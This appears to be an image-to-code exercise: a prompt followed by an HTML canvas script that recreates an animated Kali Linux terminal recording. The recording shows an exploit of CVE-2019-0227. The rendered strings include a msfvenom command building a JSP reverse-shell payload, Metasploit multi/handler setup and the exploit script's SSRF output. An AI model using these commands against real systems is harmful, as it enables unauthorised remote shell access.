
Recreate the animation shown at these times as an HTML page with a canvas. Size 600 px wide and 524 px high, loop 8000 ms.

```html
<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<style>
html, body { margin: 0; width: 600px; height: 524px; overflow: hidden; background: #000; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="600" height="524"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 8000, STEP = 100, CELL_W = 5.6475, CELL_H = 11.295;
const MONO = '9.3px "DejaVu Sans Mono", monospace';
const SANS = '9.2px "Noto Sans", "Open Sans", sans-serif';

// ^r red, ^b blue, ^u underlined, ^n normal
const PROMPT = '^ruser@kali^n:^b~^n# ';
const MSF = '^umsf5^n ';
const HANDLER = MSF + 'exploit(^rmulti/handler^n) > ';
const FAIL = '^r[-]^n ', INFO = '^b[*]^n ';
const INDENT = ' '.repeat(8);

const TOP = { y: 31.6, fg: '#b2b2b2', red: '#e52828', blue: '#729fcf' };
const BOTTOM = { y: 238.8, fg: '#8b8b8b', red: '#c42424', blue: '#5c82ae' };

// [time of appearance, line]
const topLines = [
  [0, '[2019/04/02 16:01:24]'],
  [0, PROMPT + 'python CVE-2019-0227.py shell.jsp'],
  [3500, '[+] Starting MITM'],
  [5400, '[+] Starting web server for SSRF'],
  [5400, '[+] Using StockQuoteService.jws to trigger SSRF'],
  [5400, '[+] Waiting to redirect'],
  [5700, '192.168.0.103 - - [02/Apr/2019 16:01:50] "GET /examples/stockquote/getxmlquote.vep?s=dwas HTTP/1.1" 301'],
  [5700, '-'],
  [5700, '[+] Payload URL sent'],
  [5700, '[+] Waiting 3 seconds for incoming request']
];

const bottomLines = [
  PROMPT + 'msfvenom -p java/jsp_shell_reverse_tcp LHOST=192.168.0.106 LPORT=4444 -f raw > shell.jsp',
  'Payload size: 1499 bytes',
  '[2019/04/02 15:56:38]',
  PROMPT + 'msfconsole -q',
  FAIL + '***',
  FAIL + '* WARNING: No database support: could not connect to server: Connection refused',
  INDENT + 'Is the server running on host "localhost" (::1) and accepting',
  INDENT + 'TCP/IP connections on port 5432?',
  'could not connect to server: Connection refused',
  INDENT + 'Is the server running on host "localhost" (127.0.0.1) and accepting',
  INDENT + 'TCP/IP connections on port 5432?',
  '',
  FAIL + '***',
  INFO + 'Starting persistent handler(s)...',
  MSF + '> use exploit/multi/handler',
  HANDLER + 'set LHOST 192.168.0.106',
  'LHOST => 192.168.0.106',
  HANDLER + 'set LPORT 4444',
  'LPORT => 4444',
  HANDLER + 'set PAYLOAD java/jsp_shell_reverse_tcp',
  'PAYLOAD => java/jsp_shell_reverse_tcp',
  HANDLER + 'run',
  '',
  INFO + 'Started reverse TCP handler on 192.168.0.106:4444'
];

// Mouse pointer: [time, x, y]
const path = [
  [0, 449, 239], [600, 449, 239], [1000, 453, 240], [1300, 475, 205],
  [1800, 303, 62], [2000, 297, 64], [3300, 297, 64], [3900, 291, 90],
  [4200, 291, 90], [4700, 365, 106], [6300, 365, 106], [7100, 362, 124],
  [7800, 554, 379], [LOOP, 554, 379]
];

function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function line(points, color, width = 1) {
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.beginPath();
  points.forEach(([x, y], i) => i % 2 ? ctx.lineTo(x, y) : ctx.moveTo(x, y));
  ctx.stroke();
}

function label(text, x, y, color, weight = 400) {
  ctx.font = weight + ' ' + SANS;
  ctx.textAlign = 'center';
  ctx.fillStyle = color;
  ctx.fillText(text, x, y);
}

function drawLine(text, row, pane) {
  const y = pane.y + row * CELL_H + 8.8;
  let style = 'n', col = 0;
  ctx.textAlign = 'left';
  for (let i = 0; i < text.length; i++) {
    if (text[i] === '^') { style = text[++i]; continue; }
    const x = 0.6 + col++ * CELL_W;
    ctx.fillStyle = { r: pane.red, b: pane.blue }[style] || pane.fg;
    ctx.font = ('rb'.includes(style) ? 'bold ' : '') + MONO;
    ctx.fillText(text[i], x, y);
    if (style === 'u') ctx.fillRect(x, y + 1.2, CELL_W, 0.7);
  }
}

function triangle(x, y, dir, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.moveTo(x - 2.5, y + dir * 1.5);
  ctx.lineTo(x + 2.5, y + dir * 1.5);
  ctx.lineTo(x, y - dir * 1.5);
  ctx.fill();
}

function scrollbar(y, h, thumbY, thumbH, upColor, downColor) {
  rect(593, y, 7, h, '#ececec');
  rect(593, thumbY, 7, thumbH, '#858585');
  triangle(596.5, y + 4, 1, upColor);
  triangle(596.5, y + h - 4, -1, downColor);
}

function drawChrome() {
  const shade = ctx.createLinearGradient(0, 0, 0, 19);
  shade.addColorStop(0, '#ebebeb');
  shade.addColorStop(1, '#d8d8d8');
  rect(0, 0, 600, 19, shade);
  label('user@kali: ~', 300, 12, '#222', 500);
  for (const x of [550.5, 570.5, 590.5]) {
    ctx.fillStyle = '#555a5c';
    ctx.beginPath();
    ctx.arc(x, 9, 5.2, 0, 7);
    ctx.fill();
  }
  line([[548, 9.5], [553, 9.5]], '#eee', 1.2);
  ctx.strokeRect(568.5, 7, 4, 4);
  line([[588.5, 7], [592.5, 11], [592.5, 7], [588.5, 11]], '#eee', 1.2);

  rect(0, 19, 600, 12, '#c80003');
  rect(2, 21, 5, 5, '#1c2430');
  rect(6, 21.5, 4, 4, '#3465a4');
  rect(2.5, 25.5, 4, 3.5, '#d8d8d8');
  rect(6, 25, 4, 4, '#1c2430');
  label('user@kali: ~ 104x17', 308, 28.5, '#fff');

  rect(0, 226, 600, 12, '#c0bebf');
  ctx.strokeStyle = '#333';
  ctx.lineWidth = 0.9;
  ctx.strokeRect(2.5, 228.5, 4, 4);
  ctx.strokeRect(6.5, 228.5, 4, 4);
  ctx.strokeRect(2.5, 232.5, 4, 4);
  line([[8.5, 233], [8.5, 237], [6.5, 235], [10.5, 235]], '#333');
  line([[13.5, 227], [13.5, 238]], '#999');
  label('user@kali: ~ 104x25', 308.5, 235.8, '#000');

  scrollbar(31, 195, 39, 178, '#ccc', '#ccc');
  scrollbar(238, 286, 257, 259, '#444', '#ccc');
}

function drawCursor(t) {
  const block = (col, row) => rect(0.4 + col * CELL_W, TOP.y + row * CELL_H, CELL_W, CELL_H, '#aaa');
  if (t < 3100) block(46, 1);
  else if (Math.floor((t - 3100) / 600) % 2 === 0) {
    block(0, topLines.filter(([at]) => at <= t).length);
  }
}

function drawPointer(t) {
  const i = path.findIndex(p => p[0] > t);
  const [t0, x0, y0] = path[i - 1], [t1, x1, y1] = path[i];
  const k = (t - t0) / (t1 - t0);
  const x = Math.round(x0 + (x1 - x0) * k) - 0.5, y = Math.round(y0 + (y1 - y0) * k);
  const beam = [[x, y - 2.5], [x, y + 2.5], [x - 1.5, y - 2.5], [x + 1.5, y - 2.5], [x - 1.5, y + 2.5], [x + 1.5, y + 2.5]];
  line(beam, '#000', 1.8);
  line(beam, '#b8b8b8', 0.7);
}

function draw(t) {
  rect(0, 0, 600, 524, '#000');
  drawChrome();
  topLines.forEach(([at, text], row) => { if (t >= at) drawLine(text, row, TOP); });
  bottomLines.forEach((text, row) => drawLine(text, row, BOTTOM));
  ctx.strokeStyle = BOTTOM.fg;
  ctx.lineWidth = 0.9;
  ctx.strokeRect(0.9, 510.5, 4.8, 10.5);
  drawCursor(t);
  drawPointer(t);
}

let start, last;
function tick(now) {
  start ??= now;
  const t = Math.floor((now - start) % LOOP / STEP) * STEP;
  if (t !== last) draw(last = t);
  requestAnimationFrame(tick);
}
requestAnimationFrame(tick);
</script>
</body>
</html>
```
